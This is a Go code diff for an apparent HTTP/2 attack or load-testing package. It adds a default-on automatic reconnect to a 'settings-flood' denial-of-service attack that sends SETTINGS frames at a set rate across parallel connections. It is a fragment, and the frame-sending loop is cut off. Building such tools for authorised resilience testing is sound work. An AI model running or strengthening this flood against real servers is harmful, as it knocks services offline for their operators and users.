@@ -17,6 +17,10 @@ import (
 type SettingsFloodParams struct {
 	// Connections attacking in parallel. Default 1.
 	Connections int `yaml:"connections"`
+	// Reconnect dials again (after 50ms) when the server closes a
+	// connection before the time bound, at most 1000 times per
+	// connection. Default true.
+	Reconnect bool `yaml:"reconnect"`
 	// Settings is SETTINGS frames per connection. Default 100000.
 	Settings int `yaml:"settings"`
 	// Duration bounds the attack. Default 30s.
@@ -28,7 +32,7 @@ type SettingsFloodParams struct {
 
 // DefaultSettingsFlood returns settings-flood's defaults.
 func DefaultSettingsFlood() SettingsFloodParams {
-	return SettingsFloodParams{Connections: 1, Settings: 100_000, Duration: 30 * time.Second, Rate: 10_000}
+	return SettingsFloodParams{Connections: 1, Reconnect: true, Settings: 100_000, Duration: 30 * time.Second, Rate: 10_000}
 }
 
 func (p *SettingsFloodParams) limits() limits {
@@ -36,17 +40,22 @@ func (p *SettingsFloodParams) limits() limits {
 }
 
 // Validate implements Params.
-func (p *SettingsFloodParams) Validate() error { return p.limits().validate("settings-flood", "settings") }
+func (p *SettingsFloodParams) Validate() error {
+	return p.limits().validate("settings-flood", "settings")
+}
 
 // SetRate implements Params.
 func (p *SettingsFloodParams) SetRate(r float64) { p.Rate = r }
+
+// Pace implements Params.
+func (p *SettingsFloodParams) Pace() float64 { return p.Rate }
 
 // Run implements Params.
 func (p *SettingsFloodParams) Run(ctx context.Context, t Target, req Request, report Report) (Result, error) {
 	if err := p.Validate(); err != nil {
 		return Result{Attack: "settings-flood", Target: t.Addr}, fmt.Errorf("h2attack: %w", err)
 	}
-	return run(ctx, t, req, spec{name: "settings-flood", lim: p.limits(),
+	return run(ctx, t, req, spec{noReconnect: !p.Reconnect, name: "settings-flood", lim: p.limits(),
 		describe: "SETTINGS frames (INITIAL_WINDOW_SIZE 65535/65534 in turn), each owed an ACK",
 		loop: func(ctx context.Context, c *conn) (string, error) {
 			return c.pace(ctx, p.Settings, p.Rate, func(i int) error {
